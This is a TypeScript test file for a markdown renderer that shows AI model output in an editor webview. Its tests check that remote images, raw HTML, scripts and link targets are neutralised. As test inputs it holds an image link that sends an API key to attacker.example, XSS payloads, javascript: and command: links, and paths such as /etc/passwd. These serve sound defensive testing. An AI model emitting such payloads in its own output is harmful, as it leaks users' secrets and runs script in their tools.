import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderMarkdown } from '../../src/webview/markdown';

describe('renderMarkdown (model output)', () => {
  it('renders remote images as text, so nothing is fetched', () => {
    const html = renderMarkdown('see ![secret](https://attacker.example/?d=API_KEY) and ![x](//cdn.example/x.png)');
    assert.doesNotMatch(html, /<img/);
    assert.doesNotMatch(html, /attacker\.example/);
    assert.match(html, /\[image: secret\]/);
  });

  it('keeps inline data images', () => {
    assert.match(
      renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'),
      /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="dot">/,
    );
  });

  it('escapes raw HTML from the model', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)><script>alert(2)</script>');
    assert.doesNotMatch(html, /<img|<script/);
    assert.match(html, /&lt;script&gt;/);
  });

  it('gives no link a real target: the host decides what a click opens', () => {
    for (const text of [
      '[a](javascript:alert(1))',
      '[b](command:workbench.action.terminal.new)',
      '[c](https://code.visualstudio.com)',
      '<https://autolink.example/x>',
      'bare https://linkify.example/y here',
      '[d](src/a.ts#L3)',
    ]) {
      const html = renderMarkdown(text);
      assert.doesNotMatch(html, / href="(?!#")/, text);
      assert.doesNotMatch(html, /data-href="(javascript|command):/, text);
    }
    assert.match(renderMarkdown('[c](https://code.visualstudio.com)'), /data-href="https:\/\/code\.visualstudio\.com"/);
    assert.match(renderMarkdown('[d](src/a.ts#L3)'), /<a href="#"[^>]*data-href="src\/a\.ts#L3"/);
    assert.match(renderMarkdown('<https://autolink.example/x>'), /data-href="https:\/\/autolink\.example\/x"/);
    assert.match(renderMarkdown('bare https://linkify.example/y here'), /data-href="https:\/\/linkify\.example\/y"/);
  });

  it('highlights fenced code with the language', () => {
    const html = renderMarkdown('```ts\nconst x: number = 1;\n```');
    assert.match(html, /<pre class="code-block" data-lang="ts"><code class="hljs">/);
    assert.match(html, /<span class="hljs-keyword">const<\/span>/);
  });
});

describe('renderMarkdown: path:line references in an answer', () => {
  const links = (text: string) =>
    [...renderMarkdown(text).matchAll(/data-href="([^"]*)"[^>]*>(.*?)<\/a>/g)].map((m) => [m[1], m[2]]);

  it('links bare and inline-code references, with the range as #Lstart-Lend', () => {
    assert.deepEqual(links('See src/a.ts:12, `src/b.ts:3-9` and lib/c.py#L4-L8.'), [
      ['src/a.ts#L12', 'src/a.ts:12'],
      ['src/b.ts#L3-L9', '<code>src/b.ts:3-9</code>'],
      ['lib/c.py#L4-L8', 'lib/c.py#L4-L8'],
    ]);
    assert.deepEqual(links('main.go:L10-L40'), [['main.go#L10-L40', 'main.go:L10-L40']]);
  });

  it('leaves text that is not a relative path with a line alone', () => {
    for (const text of [
      'at 127.0.0.1:8080',
      'see ../secret.ts:3',
      'see /etc/passwd.txt:1',
      'C:\\\\x\\\\a.ts:3',
      'the README mentions x:10',
      'src/a.ts has no line',
      '`src/a.ts:12 and more`',
      'ratio 3.5:1',
    ]) {
      assert.deepEqual(links(text), [], text);
    }
  });

  it('keeps a reference inside a code block as code', () => {
    assert.deepEqual(links('```\nsrc/a.ts:12\n```'), []);
  });

  it('does not nest a reference inside a written link', () => {
    assert.deepEqual(links('[look here src/a.ts:3](src/a.ts:3)'), [['src/a.ts:3', 'look here src/a.ts:3']]);
  });
});
